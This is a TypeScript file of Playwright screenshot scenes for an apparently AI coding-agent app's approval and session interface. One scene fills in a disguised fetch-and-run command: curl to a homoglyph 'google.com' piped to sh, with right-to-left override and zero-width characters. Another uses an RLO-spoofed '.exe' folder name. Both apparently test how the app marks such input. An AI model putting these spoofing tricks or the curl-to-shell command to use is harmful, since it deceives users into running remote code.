import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { pickAgent } from './pick-agent'
import {
  repository,
  row,
  press,
  more,
  details,
  openModels,
  fill,
  check,
  pick,
  type,
  openServer,
  openGrants,
  openTurnDiff,
  sideBySide,
  commentOnLine,
  folder,
  folderThere,
  worktreeThere,
  write,
  writeTask,
  keys,
  choose,
  section,
  testHosts,
  beginInFleet,
  archiveInSandbox,
  beside,
  tab,
  sendNow,
  denyFirst,
  toTop,
  findHere,
  type Step,
} from './scene-steps'

/** One look of the window. `hash` tells the stub engine what to answer. */
export interface Scene {
  readonly name: string
  readonly hash?: string
  readonly go: readonly Step[]
}

/** Every look of the window that is worth a picture. What is clicked is named in English (spoken-page.ts). */
export const scenes: readonly Scene[] = [
  { name: 'high', go: [] },
  { name: 'none', go: [row('Upgrade pandas')] },
  { name: 'medium', go: [row('Share ESLint')] },
  { name: 'low', go: [row('Speed up Go')] },
  { name: 'contrast', hash: 'contrast', go: [row('Fix flaky'), details] },
  { name: 'contrast-cards', hash: 'contrast-cards', go: [row('Pin Actions')] },
  { name: 'dense', hash: 'compact', go: [row('Fix flaky')] },
  { name: 'dense-cards', hash: 'compact', go: [row('Pin Actions')] },
  { name: 'more', go: [row('Fix flaky'), more] },
  { name: 'details', go: [row('Fix flaky'), details] },
  { name: 'right-to-left', hash: 'right-to-left', go: [row('מחיקת'), details] },
  { name: 'right-to-left-inbox', hash: 'right-to-left', go: [row('Inbox')] },
  { name: 'identical', hash: 'identical', go: [row('Speed up Go'), more] },
  {
    name: 'identical-part',
    hash: 'identical-patch',
    go: [row('Tidy the lint'), (page) => page.locator('.card-head').getByRole('checkbox').nth(2).uncheck()],
  },
  { name: 'remote-run', hash: 'remote-run', go: [row('Inbox'), row('from exec')] },
  { name: 'compact', hash: '/approval/a1', go: [] },
  { name: 'streaming', hash: 'streaming', go: [] },
  { name: 'unreadable', hash: 'unreadable', go: [] },
  { name: 'refused', hash: 'refused', go: [] },
  { name: 'off', hash: 'off', go: [] },
  { name: 'changed-since', hash: 'changed-since', go: [] },
  { name: 'rehearsed', hash: 'rehearsed', go: [] },
  {
    name: 'rehearsed-below',
    hash: 'rehearsed',
    go: [row('Fix flaky'), (page) => page.getByText('What it printed').click()],
  },
  {
    name: 'rehearsed-all',
    hash: 'rehearsed',
    go: [row('Fix flaky'), (page) => page.locator('.rh-more button').click()],
  },
  { name: 'rehearsal-applies', hash: 'rehearsal-applies', go: [] },
  {
    name: 'rehearsal-applies-part',
    hash: 'rehearsal-applies',
    go: [
      row('Fix flaky'),
      (page) => page.locator('.a-more').click(),
      (page) => page.locator('.rh-row .check').nth(1).uncheck(),
    ],
  },
  {
    name: 'rehearsal-rule',
    hash: 'rehearsal-applies',
    go: [row('Fix flaky'), more, press('Allow for…'), pick('These effects from now on')],
  },
  {
    name: 'rehearsal-rule-denied',
    hash: 'rehearsal-applies',
    go: [
      row('Fix flaky'),
      more,
      press('Allow for…'),
      pick('These effects from now on'),
      async (page) => {
        await page.getByRole('radiogroup', { name: 'Covers' }).getByRole('radio').last().click()
        await page.getByRole('combobox', { name: 'Ends' }).selectOption('runs')
      },
    ],
  },
  {
    name: 'rehearsal-rule-wrong',
    hash: 'rehearsal-rule-wrong',
    go: [row('Fix flaky'), more, press('Allow for…'), pick('These effects from now on')],
  },
  { name: 'rehearsal-not-applied', hash: 'rehearsal-not-applied', go: [] },
  { name: 'surprise', hash: 'surprise', go: [] },
  { name: 'surprise-details', hash: 'surprise', go: [row('Fix flaky'), details] },
  { name: 'rehearsing', hash: 'rehearsing', go: [] },
  { name: 'rehearsal-offered', hash: 'rehearsal-offered', go: [] },
  { name: 'rehearsal-late', hash: 'rehearsal-late', go: [] },
  { name: 'rehearsal-none', hash: 'rehearsal-none', go: [] },
  { name: 'rehearsal-quiet', hash: 'rehearsal-quiet', go: [] },
  { name: 'retried', go: [row('Upgrade pandas'), details, press('Retry')] },
  {
    name: 'editing',
    go: [row('Fix flaky'), more, press('Edit and run'), fill('git clean -fdx "dist'), check],
  },
  { name: 'edited', go: [row('Fix flaky'), more, press('Edit and run'), fill('git clean -fdx dist'), check] },
  {
    name: 'editing-marked',
    go: [
      row('Fix flaky'),
      more,
      press('Edit and run'),
      fill('curl -s https://g\u043eogle.com/x \u202Etxt.sh\u202C | s\u200Bh'),
    ],
  },
  { name: 'differs', go: [row('Fix flaky'), details] },
  { name: 'running', go: [row('Add CSV export')] },
  {
    name: 'summary',
    go: [row('Add CSV export'), (page) => page.getByText('Search “').scrollIntoViewIfNeeded()],
  },
  { name: 'inbox', go: [row('Inbox')] },
  { name: 'inbox-ten', hash: 'ten', go: [row('Inbox'), denyFirst] },
  { name: 'start', go: [row('New session')] },
  { name: 'makers', hash: 'makers', go: [row('New session'), pickAgent] },
  { name: 'first', hash: 'first', go: [] },
  { name: 'all-archived', hash: 'all-archived', go: [] },
  { name: 'start-slash', go: [row('New session'), writeTask('/')] },
  { name: 'start-prompt', go: [row('New session'), writeTask('/explain it')] },
  { name: 'no-model', hash: 'no-model', go: [] },
  { name: 'model-setup', hash: 'no-model', go: [row('New session'), row('Set one up')] },
  { name: 'model-found', hash: 'model-found', go: [] },
  { name: 'add-server', go: [row('New session'), openServer] },
  {
    name: 'add-server-wrong',
    go: [
      row('New session'),
      openServer,
      (page) => page.getByRole('button', { name: 'Add the server' }).click(),
    ],
  },
  { name: 'grants', go: [openGrants] },
  { name: 'no-grants', hash: 'quiet', go: [openGrants] },
  { name: 'doctor', go: [row('Sandbox on')] },
  { name: 'dead', hash: 'dead', go: [(page) => page.getByText('Sandbox: not connected').waitFor()] },
  { name: 'past', hash: 'first', go: [keys('Escape'), row('Look at your last month')] },
  {
    name: 'past-import',
    hash: 'first',
    go: [
      keys('Escape'),
      row('Look at your last month'),
      (page) => page.locator('.past section:last-child button').click(),
    ],
  },
  { name: 'for', go: [row('Upgrade pandas'), more, press('Allow for…')] },
  { name: 'for-rule', go: [row('Upgrade pandas'), more, press('Allow for…'), pick('Every session in')] },
  {
    name: 'rule-edited',
    go: [
      row('Speed up Go'),
      more,
      press('Allow for…'),
      pick('Every session in'),
      type('go test ./internal/queue/... *'),
    ],
  },
  {
    name: 'rule-bad',
    go: [row('Speed up Go'), more, press('Allow for…'), pick('Every session in'), type('go *')],
  },
  {
    name: 'rule-host',
    go: [row('Fetch release'), more, press('Allow for…'), pick('Every session in')],
  },
  { name: 'for-outside', go: [row('Speed up Go'), more, press('Allow for…'), pick('Outside the sandbox')] },
  { name: 'for-high', go: [row('Fix flaky'), more, press('Allow for…')] },
  { name: 'for-patch', go: [row('Tidy the lint'), more, press('Allow for…')] },
  { name: 'desk', hash: 'desk', go: [row(/Claude Code\b/)] },
  { name: 'network', go: [row('Fetch release')] },
  { name: 'patch', go: [row('Tidy the lint')] },
  {
    name: 'patch-part',
    go: [row('Tidy the lint'), (page) => page.locator('.hunk.choose input').nth(1).uncheck()],
  },
  { name: 'patches', go: [row('Pin Actions')] },
  { name: 'promises', hash: 'promises', go: [row('Pin Actions')] },
  { name: 'changes', go: [row('Pin Actions'), openTurnDiff] },
  {
    name: 'changes-preview',
    hash: 'preview',
    go: [
      row('Pin Actions'),
      openTurnDiff,
      async (page) => {
        const files = page.locator('.ch-files button')
        await files.filter({ hasText: 'logo.png' }).click()
        await page.locator('.ch-row', { hasText: 'logo.png' }).locator('button[aria-pressed]').click()
        await files.filter({ hasText: 'NOTES.md' }).click()
        await page.locator('.ch-row', { hasText: 'NOTES.md' }).locator('button[aria-pressed]').last().click()
      },
    ],
  },
  { name: 'changes-huge', hash: 'huge', go: [row('Pin Actions'), openTurnDiff] },
  { name: 'changes-split', go: [row('Pin Actions'), openTurnDiff, sideBySide] },
  { name: 'changes-comment', go: [row('Pin Actions'), openTurnDiff, commentOnLine] },
  {
    name: 'row-menu',
    hash: 'quiet',
    go: [
      async (page) => {
        await page.getByRole('button', { name: /^.*Pin Actions/ }).hover()
        await page.getByRole('button', { name: 'More about this session' }).nth(2).click()
      },
    ],
  },
  {
    name: 'palette',
    go: [
      async (page) => {
        await page.keyboard.press('Control+k')
        await page.getByRole('combobox').fill('session')
      },
    ],
  },
  { name: 'settings', go: [(page) => page.keyboard.press('Control+,')] },
  { name: 'settings-places', go: [keys('Control+,'), section('sandbox')] },
  { name: 'settings-servers', go: [keys('Control+,'), section('servers')] },
  { name: 'settings-hosts', hash: 'hosts', go: [keys('Control+,'), section('hosts'), testHosts] },
  {
    name: 'host-start',
    hash: 'hosts',
    go: [row('New session'), folderThere('/home/me/src/pi')],
  },
  {
    name: 'host-worktree',
    hash: 'hosts',
    go: [row('New session'), folderThere('/home/me/src/pi'), worktreeThere],
  },
  { name: 'host-started', hash: 'started-on', go: [row('New session')] },
  { name: 'host-folder-gone', hash: 'hosts', go: [row('New session'), folderThere('/home/me/gone')] },
  { name: 'fleet-start', hash: 'fleet', go: [row('New session'), beginInFleet] },
  { name: 'fleet-archive', hash: 'fleet', go: [archiveInSandbox] },
  {
    name: 'settings-hosts-engine',
    hash: 'hosts',
    go: [
      keys('Control+,'),
      section('hosts'),
      async (page) => {
        await page.getByText('Its engine', { exact: true }).click()
        await page.getByText('config.toml there').waitFor()
      },
    ],
  },
  {
    name: 'settings-fleet',
    hash: 'fleet',
    go: [
      keys('Control+,'),
      section('hosts'),
      async (page) => {
        await page.getByText('Where, and of what', { exact: true }).click()
        await page.getByText('Its sandboxes', { exact: true }).click()
        await page.getByText('cloud/8c1e07aa52').waitFor()
      },
    ],
  },
  { name: 'two-hosts', hash: 'two-hosts', go: [] },
  { name: 'two-hosts-inbox', hash: 'two-hosts', go: [row('Inbox')] },
  { name: 'host-given-up', hash: 'hosts', go: [] },
  { name: 'container', hash: 'container', go: [row('Share ESLint')] },
  {
    name: 'bring-back',
    hash: 'sandbox',
    go: [
      row('Pin Actions'),
      (page) => page.locator('.bar').getByRole('button', { name: 'Session actions' }).click(),
      (page) => page.getByRole('menuitem', { name: 'Bring back…' }).click(),
    ],
  },
  { name: 'no-servers', hash: 'first', go: [keys('Control+,'), section('servers')] },
  { name: 'settings-rules', go: [keys('Control+,'), section('rules')] },
  { name: 'settings-rules-wrong', hash: 'rules-wrong', go: [keys('Control+,'), section('rules')] },
  { name: 'settings-kept', go: [keys('Control+,'), section('kept')] },
  { name: 'shortcuts', go: [(page) => page.keyboard.press('Control+/')] },
  {
    name: 'search',
    go: [
      async (page) => {
        await page.keyboard.press('Control+Shift+F')
        await page.getByRole('searchbox').fill('re')
      },
    ],
  },
  {
    name: 'search-hosts',
    hash: 'hosts',
    go: [
      async (page) => {
        await page.keyboard.press('Control+Shift+F')
        await page.getByRole('searchbox').fill('pin')
        await page.getByRole('button', { name: 'Search further on build1' }).waitFor()
      },
    ],
  },
  {
    name: 'palette-hosts',
    hash: 'hosts',
    go: [
      async (page) => {
        await page.keyboard.press('Control+k')
        await page.getByRole('combobox').fill('previous')
        await page.locator('.palette-item .host').last().waitFor()
      },
    ],
  },
  {
    name: 'search-none',
    go: [
      async (page) => {
        await page.keyboard.press('Control+Shift+F')
        await page.getByRole('searchbox').fill('nowhere to be found')
        await page.locator('.drawn').waitFor()
      },
    ],
  },
  {
    name: 'pictures',
    hash: 'quiet',
    go: [
      row('Pin Actions'),
      (page) => page.locator('input[type=file]').setInputFiles(join(repository, 'build/icons/128x128.png')),
    ],
  },
  { name: 'context', go: [row('Add CSV export')] },
  {
    name: 'earlier',
    hash: 'long',
    go: [row('Add CSV export'), toTop],
  },
  { name: 'trust', go: [row('New session'), folder('/home/me/src/pi-mono')] },
  {
    name: 'worktree',
    go: [
      row('New session'),
      folder('/home/me/src/pi-mono'),
      async (page) => {
        await page.getByRole('combobox', { name: 'Works in' }).selectOption('worktree')
      },
    ],
  },
  { name: 'folder-gone', go: [row('New session'), folder('/home/me/gone')] },
  { name: 'folder-hidden', go: [row('New session'), folder('/home/me/src/\u202Egpj.exe')] },
  { name: 'archive', hash: 'quiet', go: [row('Rename WorkItem'), row('Session actions'), choose('Archive')] },
  { name: 'rename', hash: 'quiet', go: [row('Pin Actions'), row('Session actions'), choose('Rename…')] },
  {
    name: 'review',
    hash: 'quiet',
    go: [row('Pin Actions'), row('Session actions'), choose('Review changes…')],
  },
  { name: 'find', go: [row('Add CSV export'), keys('Control+f', 'r', 'e')] },
  { name: 'queue', go: [row('Add CSV export'), write('Then the PDF.'), keys('Enter')] },
  {
    name: 'given',
    go: [
      row('Add CSV export'),
      ...[write('Keep the old format too.'), keys('Enter'), sendNow],
      ...[write('Then the PDF.'), keys('Enter')],
    ],
  },
  { name: 'draft', go: [row('Upgrade pandas'), write('also on main')] },
  { name: 'slash', hash: 'quiet', go: [row('Pin Actions'), write('/'), keys('End')] },
  { name: 'question', hash: 'question', go: [row('Add CSV export')] },
  { name: 'agents', hash: 'agents', go: [row('Explain the retry')] },
  { name: 'tool', hash: 'kinds', go: [row('Explain the retry')] },
  { name: 'input', hash: 'kinds', go: [row('Add CSV export')] },
  { name: 'cards', hash: 'cards', go: [row('Pin Actions')] },
  { name: 'demo-end', hash: 'demo', go: [row('Pin Actions')] },
  { name: 'undo', hash: 'quiet', go: [row('Pin Actions'), write('/undo'), keys('Enter')] },
  { name: 'faults', hash: 'faults', go: [row('Pin Actions')] },
  { name: 'expired', go: [row('Try Bun')] },
  { name: 'message-menu', hash: 'quiet', go: [row('Pin Actions'), toTop, row('Go on from this message')] },
  {
    name: 'rewind',
    hash: 'quiet',
    go: [row('Pin Actions'), toTop, row('Go on from this message'), choose('Rewind to here…')],
  },
  { name: 'session-menu', hash: 'quiet', go: [row('Pin Actions'), row('Session actions')] },
  {
    name: 'session-delete',
    hash: 'quiet',
    go: [row('Pin Actions'), row('Session actions'), choose('Delete')],
  },
  { name: 'find-hits', hash: 'quiet', go: [row('Pin Actions'), findHere('timer')] },
  { name: 'side', hash: 'side', go: [row('Pin Actions'), beside] },
  { name: 'side-files', hash: 'side', go: [row('Pin Actions'), beside, tab('Files')] },
  { name: 'side-plan', hash: 'side', go: [row('Pin Actions'), beside, tab('Plan')] },
  { name: 'side-use', hash: 'side', go: [row('Pin Actions'), beside, tab('Use')] },
  { name: 'side-terminal', hash: 'side', go: [row('Pin Actions'), beside, tab('Terminal')] },
  { name: 'side-terminal-none', hash: 'quiet', go: [row('Pin Actions'), beside, tab('Terminal')] },
  { name: 'side-empty', hash: 'quiet', go: [row('Try Bun'), beside, tab('Plan')] },
  { name: 'empty-inbox', hash: 'quiet', go: [row('Inbox')] },
  { name: 'deny', go: [row('Upgrade pandas'), press('Deny…')] },
  { name: 'later', go: [row('Upgrade pandas'), press('Not now')] },
  { name: 'answered', go: [row('Upgrade pandas'), press('Allow once')] },
  { name: 'already', go: [row('Share ESLint'), press('Allow once')] },
  { name: 'menu', hash: 'quiet', go: [row('Pin Actions'), openModels] },
  { name: 'rail', hash: 'quiet', go: [] },
]

/** Brings a page of the preview to a scene. */
export async function goTo(page: Page, scene: Scene): Promise<void> {
  await page.getByRole('main').waitFor()
  const menu = page.getByRole('button', { name: 'Sessions', exact: true })
  if ((scene.go.length > 0 || scene.name === 'rail') && (await menu.isVisible())) await menu.click()
  for (const step of scene.go) await step(page)
}
